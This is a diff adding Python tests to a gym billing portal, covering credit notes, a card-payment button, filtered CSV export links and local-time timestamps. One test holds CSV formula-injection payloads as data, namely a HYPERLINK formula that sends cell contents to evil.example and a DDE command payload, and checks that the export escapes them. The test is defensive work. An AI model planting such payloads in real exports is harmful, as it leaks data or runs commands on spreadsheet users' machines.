@@ -142,6 +142,41 @@ async def test_a_manager_voids_an_invoice_with_a_reason(bob):
     assert 'data-testid="invoice-balance">KES 0<' in page.text
 
 
+async def test_the_voids_credit_note_is_linked_from_the_invoice_page(bob, alice):
+    from portal.documents import store as document_store
+
+    member, inv = await _member_with_invoice()
+    await pay(member, 1000)
+    assert (await bob.post(f"/invoices/{inv['id']}/void", {"reason": "Raised twice by mistake"})).status_code == 303
+    note = await CreditNote.select().where(CreditNote.invoice == inv["id"]).first()
+    page = await alice.get(f"/invoices/{inv['id']}")
+    section = re.search(r'data-testid="credit-notes">(.*?)</section>', page.text, re.S).group(1)
+    assert note["number"] in section and "Raised twice by mistake" in section and "KES 3,000" in section
+    status = re.search(r'hx-get="(/documents/credit_note/credit_note:\d+/status[^"]*)"', section).group(1)
+    assert status.startswith(f"/documents/credit_note/credit_note:{note['id']}/")
+    # The link the page polls leads to the PDF once the worker has made it.
+    await document_store.render_and_store("credit_note", f"credit_note:{note['id']}")
+    ready = await alice.get(status.replace("&amp;", "&"), htmx=True)
+    pdf_href = re.search(r'href="(/documents/credit_note/[^"?]+)"', ready.text).group(1)
+    pdf = await alice.get(pdf_href)
+    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
+
+
+async def test_the_card_button_shows_only_when_something_is_owed(alice):
+    member, inv = await _member_with_invoice(3000)
+    owing = await alice.get(f"/members/{member}")
+    assert re.search(r'data-testid="pay-by-card"[^>]*>Pay KES 3,000 by card', owing.text)
+    await pay(member, 3000)
+    settled = await alice.get(f"/members/{member}")
+    assert 'data-testid="balance-owed">KES 0<' in settled.text
+    assert 'data-testid="pay-by-card"' not in settled.text and "by card" not in settled.text
+    nothing = await alice.get(f"/members/{await make_member('Brian', 'Otieno')}")
+    assert "by card" not in nothing.text
+    # A refused card start still shows its message where the button was.
+    refused = await alice.post(f"/members/{member}/card", {"amount": "abc"})
+    assert refused.status_code == 422 and 'data-testid="error-card"' in refused.text
+
+
 async def _three_payments():
     a = await make_member("Achieng", "Odhiambo", number="PTF0201")
     b = await make_member("Brian", "Otieno", number="PTF0202")
@@ -181,6 +216,62 @@ async def test_csv_export_streams_the_filtered_payments(bob, alice):
     rows = list(csv.DictReader(io.StringIO(r.text)))
     assert [(row["method"], row["amount"], row["reference"]) for row in rows] == [("bank", "1500.00", "KCB-99812")]
     assert rows[0]["receipt_number"].startswith("RCP-")
+
+
+async def test_the_export_link_follows_filters_applied_live(bob, alice):
+    await _three_payments()
+    full = await bob.get("/payments?method=cash")
+    assert full.text.count('data-testid="export-csv"') == 1 and "hx-swap-oob" not in full.text
+    # htmx filtering swaps the table only: the export link comes along out of band, with the filters.
+    live = await bob.get("/payments?method=bank&q=kcb&page=1", htmx=True)
+    link = re.search(r'<a[^>]*id="export-csv"[^>]*>', live.text).group(0)
+    assert 'hx-swap-oob="true"' in link
+    href = re.search(r'href="([^"]+)"', link).group(1).replace("&amp;", "&")
+    assert href.startswith("/payments.csv?") and "page=" not in href
+    rows = list(csv.DictReader(io.StringIO((await bob.get(href)).text)))
+    assert [(row["method"], row["reference"]) for row in rows] == [("bank", "KCB-99812")]
+    # Front desk has no export, live or not.
+    assert "export-csv" not in (await alice.get("/payments?method=bank", htmx=True)).text
+
+
+async def test_csv_export_writes_formulas_from_names_and_references_as_text(bob):
+    # Names and references come from people and gateways; a spreadsheet would run these as formulas.
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    member = await make_member(name, "@SUM(A1:A9)", number="PTF0301")
+    await invoice_for(member, 3000)
+    references = ["=cmd|' /C calc'!A0", "+254712345678", "-2+3", "@A1"]
+    for reference in references:
+        await pay(member, 500, method="bank", reference=reference)
+    await pay(member, 250, method="bank", reference="KCB-77")  # ordinary text stays as it is
+
+    r = await bob.get("/payments.csv")
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert sorted(row["reference"] for row in rows) == sorted(["'" + ref for ref in references] + ["KCB-77"])
+    assert {row["member_name"] for row in rows} == {f"'{name} @SUM(A1:A9)"}
+    # Our numbers stay numbers a spreadsheet adds up.
+    assert sorted(row["amount"] for row in rows) == ["250.00"] + ["500.00"] * 4
+    assert all(not row[c].startswith(("=", "+", "-", "@")) for row in rows for c in row)
+
+
+async def test_csv_export_times_are_the_gyms_local_time_to_the_second(bob, settings):
+    from datetime import datetime, timezone
+
+    member = await make_member()
+    await invoice_for(member, 3000)
+    payment = (await pay(member, 1000)).payment
+    at = datetime(2026, 12, 1, 21, 30, 15, 123456, tzinfo=timezone.utc)  # 00:30:15 the next day in Nairobi
+    await Payment.update({Payment.created_at: at, Payment.completed_at: at}).where(Payment.id == payment["id"])
+
+    r = await bob.get("/payments.csv")
+    header = next(csv.reader(io.StringIO(r.text)))
+    zone = settings.timezone
+    assert header[1:3] == [f"created_at ({zone})", f"completed_at ({zone})"]
+    (row,) = list(csv.DictReader(io.StringIO(r.text)))
+    local = at.astimezone(settings.tz).strftime("%Y-%m-%d %H:%M:%S")
+    assert row[f"created_at ({zone})"] == row[f"completed_at ({zone})"] == local
+    assert zone != "UTC" and local == "2026-12-02 00:30:15"  # the page's day, not UTC's
+    page = await bob.get("/payments")
+    assert at.astimezone(settings.tz).strftime("%d %b %Y %H:%M") in page.text  # what the list shows
 
 
 async def _bulk_payments(n: int) -> None:
